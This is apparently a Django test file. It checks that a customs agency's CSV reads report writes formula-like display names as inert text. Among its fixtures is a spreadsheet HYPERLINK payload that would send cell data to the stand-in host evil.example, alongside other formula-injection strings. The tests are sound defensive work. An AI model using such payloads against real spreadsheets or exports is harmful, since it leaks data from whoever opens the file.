"""The reads report download: a display name or username a spreadsheet would run as a formula is
written as text (a leading quote), so an agency admin opening the CSV runs nothing a reader chose."""

import csv
import io

import pytest
from django.test import Client
from django_otp import DEVICE_ID_SESSION_KEY
from django_otp.plugins.otp_totp.models import TOTPDevice

from ports.models import Agency
from ports.services import member_add
from tests.sharing.conftest import alert_fields

pytestmark = pytest.mark.django_db

EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"details")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _admin(user) -> Client:
    device = TOTPDevice.objects.create(user=user, name="phone", confirmed=True)
    client = Client()
    client.force_login(user)
    session = client.session
    session[DEVICE_ID_SESSION_KEY] = device.persistent_id
    session.save()
    return client


def _reads_csv(client) -> list[list[str]]:
    response = client.get("/agency/beanr-customs/reports/reads/?format=csv")
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.mark.parametrize(
    ("username", "display_name"),
    [
        ("rotterdam.mallory", EVIL_NAME),
        ("rotterdam.plus", "+1+1"),
        ("rotterdam.minus", "-2+3"),
        ("@rotterdam", "@SUM(A1)"),
        ("rotterdam.tab", "\t=1+1"),
        ("rotterdam.cr", "\r=1+1"),
    ],
)
def test_formula_like_names_are_written_as_text(cast, api_as, username, display_name):
    strict = api_as(cast["users"]["author"]).post(
        "/api/v1/alerts/",
        alert_fields(tlp="AMBER+STRICT", audience={"agencies": ["nlrtm-customs"], "ports": [], "users": []}),
        format="json",
    )
    assert strict.status_code == 201, strict.json()
    reader = member_add(
        username=username, agency=Agency.objects.get(slug="nlrtm-customs"), role="analyst", display_name="x"
    ).user
    reader.first_name, reader.last_name = display_name, ""
    reader.save(update_fields=["first_name", "last_name"])
    assert api_as(reader).get(f"/api/v1/alerts/{strict.json()['id']}/").status_code == 200

    header, *rows = _reads_csv(_admin(cast["users"]["antwerp_admin"]))
    assert header == ["time", "reader", "name", "memberships", "via", "kind", "id", "tlp"]
    [row] = [r for r in rows if r[1].lstrip("'") == username]
    assert row[2] == "'" + reader.get_full_name() == "'" + display_name.strip()  # the name, as text
    assert row[6] == strict.json()["id"]
    for cell in (c for r in rows for c in r):
        assert not cell.startswith(FORMULA_START), cell


def test_ordinary_names_are_unchanged(cast, api_as):
    strict = api_as(cast["users"]["author"]).post(
        "/api/v1/alerts/",
        alert_fields(tlp="AMBER+STRICT", audience={"agencies": ["nlrtm-customs"], "ports": [], "users": []}),
        format="json",
    )
    api_as(cast["users"]["rotterdam_customs"]).get(f"/api/v1/alerts/{strict.json()['id']}/")
    _, *rows = _reads_csv(_admin(cast["users"]["antwerp_admin"]))
    [row] = [r for r in rows if r[1] == "rotterdam.analyst"]
    assert row[2] == cast["users"]["rotterdam_customs"].get_full_name() == "Rotterdam Analyst"
    assert row[4] == "detail"
    assert row[7] == "AMBER+STRICT"
